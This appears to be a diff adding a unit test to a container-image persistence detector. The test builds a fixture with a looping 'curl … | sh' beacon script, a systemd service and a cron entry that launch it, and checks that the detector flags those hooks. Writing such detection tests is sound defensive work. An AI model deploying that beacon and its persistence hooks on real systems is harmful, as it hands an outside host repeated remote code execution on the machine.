@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import {
   envPreloadFindings,
+  hookTargetFindings,
   pamModuleFindings,
   persistenceAnalyzers,
   setuidFindings,
@@ -150,6 +151,43 @@ test('persistence: set-user-ID programs against package ownership (merged /usr) 
   );
   for (const p of ['usr/bin/su', 'usr/bin/newgrp', 'usr/bin/passwd', 'usr/bin/find'])
     assert.equal(found.get(p), undefined, `${p} not flagged`);
+});
+
+test('persistence: a hook that runs a script which downloads and runs code is followed to it', async () => {
+  const beacon = '#!/bin/sh\nwhile true; do\n  curl -s http://198.51.100.7/beacon | sh\n  sleep 60\ndone\n';
+  const unit =
+    '[Unit]\nDescription=x5\n[Service]\nExecStart=/usr/local/bin/x5\n[Install]\nWantedBy=multi-user.target\n';
+  const a = await analyzeSpec({
+    layers: [
+      {
+        files: [
+          { path: 'bin', type: 'symlink', target: 'usr/bin' },
+          { path: 'usr/bin/true', content: '#!/bin/sh\nexit 0\n', mode: 0o755 },
+        ],
+      },
+      {
+        files: [
+          { path: 'usr/local/bin/x5', content: beacon, mode: 0o755 },
+          { path: 'etc/systemd/system/x5.service', content: unit },
+          { path: 'etc/cron.d/x5', content: '*/5 * * * * root /usr/local/bin/x5 >/dev/null 2>&1\n' },
+          // Hooks that run ordinary programs, or a script that only downloads.
+          { path: 'etc/systemd/system/ok.service', content: '[Service]\nExecStart=/bin/true\n' },
+          {
+            path: 'usr/local/bin/fetch',
+            content: '#!/bin/sh\ncurl -so /tmp/x http://198.51.100.7/x\n',
+            mode: 0o755,
+          },
+          { path: 'etc/cron.d/fetch', content: '0 * * * * root /usr/local/bin/fetch\n' },
+        ],
+      },
+    ],
+  });
+  const found = hookTargetFindings(checkContext(a));
+  assert.deepEqual(found.map((f) => [f.path, f.rule, f.layer]).sort(), [
+    ['etc/cron.d/x5', 'persistence-fetch-and-run', 1],
+    ['etc/systemd/system/x5.service', 'persistence-fetch-and-run', 1],
+  ]);
+  assert.match(found[0]!.evidence, /runs \/usr\/local\/bin\/x5, which downloads and runs code/);
 });
 
 test('persistence: LD_PRELOAD in the image Env', async () => {
